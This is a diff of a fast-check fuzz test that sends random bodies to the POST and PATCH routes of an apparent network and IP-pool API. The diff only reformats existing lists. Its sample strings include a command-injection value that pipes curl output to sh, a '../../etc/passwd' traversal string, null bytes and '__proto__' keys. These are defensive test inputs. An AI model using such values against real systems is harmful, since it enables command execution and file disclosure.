@@ -16,9 +16,33 @@ const marker = (token: string) => `@@raw:${token}@@`;
 const unmark = (json: string) => json.replace(/"@@raw:([^@"]+)@@"/g, '$1');
 
 const FIELDS = [
-  'name', 'cidr', 'subnetPrefixLength', 'reserved', 'address', 'interface', 'labels', 'pool', 'allocate',
-  'host', 'prefixLength', 'gateway', 'network', 'mode', 'type', 'protocol', 'executorVersion', 'hostname',
-  'state', 'digest', 'jobId', 'generation', 'accepted', 'error', 'results', '__proto__', 'constructor',
+  'name',
+  'cidr',
+  'subnetPrefixLength',
+  'reserved',
+  'address',
+  'interface',
+  'labels',
+  'pool',
+  'allocate',
+  'host',
+  'prefixLength',
+  'gateway',
+  'network',
+  'mode',
+  'type',
+  'protocol',
+  'executorVersion',
+  'hostname',
+  'state',
+  'digest',
+  'jobId',
+  'generation',
+  'accepted',
+  'error',
+  'results',
+  '__proto__',
+  'constructor',
 ];
 
 const byte = fc.integer({ min: 0, max: 255 });
@@ -37,10 +61,44 @@ const strings = fc.oneof(
   {
     weight: 3,
     arbitrary: fc.constantFrom(
-      '', 'default', 'node-1', 'crossdock', 'bridge', 'host', 'none', 'eth0', 'network', 'bip', 'hello', 'state', 'result',
-      '10.100.0.0/16', '10.100.7.0/24', '10.20.0.0/16', '10.20.0.5/16', '127.0.0.0/8', '0.0.0.0/0', '224.0.0.0/4',
-      '10.100.7.1', '198.51.100.77', '127.0.0.1', '255.255.255.255', '1e400', '-1', 'NaN', 'Infinity', '24',
-      'evil; curl http://x|sh', 'a\u202eb', 'a\u0085b', 'a\u200bb', '\u0000', '\ud800', '😀', '../../etc/passwd', '%00',
+      '',
+      'default',
+      'node-1',
+      'crossdock',
+      'bridge',
+      'host',
+      'none',
+      'eth0',
+      'network',
+      'bip',
+      'hello',
+      'state',
+      'result',
+      '10.100.0.0/16',
+      '10.100.7.0/24',
+      '10.20.0.0/16',
+      '10.20.0.5/16',
+      '127.0.0.0/8',
+      '0.0.0.0/0',
+      '224.0.0.0/4',
+      '10.100.7.1',
+      '198.51.100.77',
+      '127.0.0.1',
+      '255.255.255.255',
+      '1e400',
+      '-1',
+      'NaN',
+      'Infinity',
+      '24',
+      'evil; curl http://x|sh',
+      'a\u202eb',
+      'a\u0085b',
+      'a\u200bb',
+      '\u0000',
+      '\ud800',
+      '😀',
+      '../../etc/passwd',
+      '%00',
     ),
   },
   { weight: 1, arbitrary: fc.tuple(fc.constantFrom('x', '\u202e', '10.', '/'), fc.integer({ min: 1000, max: 300_000 })).map(([s, n]) => s.repeat(n)) },
@@ -63,9 +121,13 @@ const values = fc.letrec<{ value: unknown }>((tie) => ({
 })).value;
 
 /** Objects made of the routes' own field names (and some others) holding anything. */
-const fieldObjects = fc.dictionary(fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...FIELDS) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }) }), values, {
-  maxKeys: 6,
-});
+const fieldObjects = fc.dictionary(
+  fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...FIELDS) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }) }),
+  values,
+  {
+    maxKeys: 6,
+  },
+);
 
 /** A value of the same JSON type as `like`: it passes the schema and reaches the handler. */
 function sameType(like: unknown): fc.Arbitrary<unknown> {
@@ -144,22 +206,50 @@ describe('random bodies on every POST and PATCH route', () => {
 
   const routes: Array<[label: string, method: 'POST' | 'PATCH', url: fc.Arbitrary<string>, valid: Record<string, unknown>, agent: boolean]> = [
     ['POST /v1/pools', 'POST', fc.constant('/v1/pools'), { name: 'p1', cidr: '10.20.0.0/16', subnetPrefixLength: 24, reserved: ['10.20.0.0/24'] }, false],
-    ['POST /v1/hosts', 'POST', fc.constant('/v1/hosts'), { name: 'node-9', address: '198.51.100.90', interface: 'eth0', labels: { team: 'a' }, pool: 'default', allocate: true }, false],
-    ['PATCH /v1/hosts/:name', 'PATCH', fc.constantFrom('/v1/hosts/node-1', '/v1/hosts/nope'), { address: '198.51.100.91', interface: 'eth1', labels: { team: 'b' } }, false],
-    ['POST /v1/subnets', 'POST', fc.constant('/v1/subnets'), { host: 'node-1', pool: 'default', prefixLength: 26, cidr: '10.100.200.0/26', gateway: '10.100.200.1', network: 'n1', mode: 'network' }, false],
+    [
+      'POST /v1/hosts',
+      'POST',
+      fc.constant('/v1/hosts'),
+      { name: 'node-9', address: '198.51.100.90', interface: 'eth0', labels: { team: 'a' }, pool: 'default', allocate: true },
+      false,
+    ],
+    [
+      'PATCH /v1/hosts/:name',
+      'PATCH',
+      fc.constantFrom('/v1/hosts/node-1', '/v1/hosts/nope'),
+      { address: '198.51.100.91', interface: 'eth1', labels: { team: 'b' } },
+      false,
+    ],
+    [
+      'POST /v1/subnets',
+      'POST',
+      fc.constant('/v1/subnets'),
+      { host: 'node-1', pool: 'default', prefixLength: 26, cidr: '10.100.200.0/26', gateway: '10.100.200.1', network: 'n1', mode: 'network' },
+      false,
+    ],
     ['POST /v1/hosts/:name/token', 'POST', fc.constantFrom('/v1/hosts/node-rot/token', '/v1/hosts/nope/token'), {}, false],
     ['POST /v1/agent/state (state)', 'POST', fc.constant('/v1/agent/state'), { type: 'state', digest: '000000000000' }, true],
     [
       'POST /v1/agent/state (hello)',
       'POST',
       fc.constant('/v1/agent/state'),
-      { type: 'hello', protocol: PROTOCOL_VERSION, executorVersion: 'test', hostname: 'node-agent', state: emptyObservedState(), digest: observedDigest(emptyObservedState()) },
+      {
+        type: 'hello',
+        protocol: PROTOCOL_VERSION,
+        executorVersion: 'test',
+        hostname: 'node-agent',
+        state: emptyObservedState(),
+        digest: observedDigest(emptyObservedState()),
+      },
       true,
     ],
     [
       'POST /v1/agent/jobs/:id/result',
       'POST',
-      fc.oneof(fc.constantFrom('/v1/agent/jobs/1/result', '/v1/agent/jobs/0/result', '/v1/agent/jobs/1e400/result', '/v1/agent/jobs/x/result'), fc.integer().map((n) => `/v1/agent/jobs/${n}/result`)),
+      fc.oneof(
+        fc.constantFrom('/v1/agent/jobs/1/result', '/v1/agent/jobs/0/result', '/v1/agent/jobs/1e400/result', '/v1/agent/jobs/x/result'),
+        fc.integer().map((n) => `/v1/agent/jobs/${n}/result`),
+      ),
       { type: 'result', jobId: 1, generation: 0, accepted: true, results: [], digest: '000000000000' },
       true,
     ],
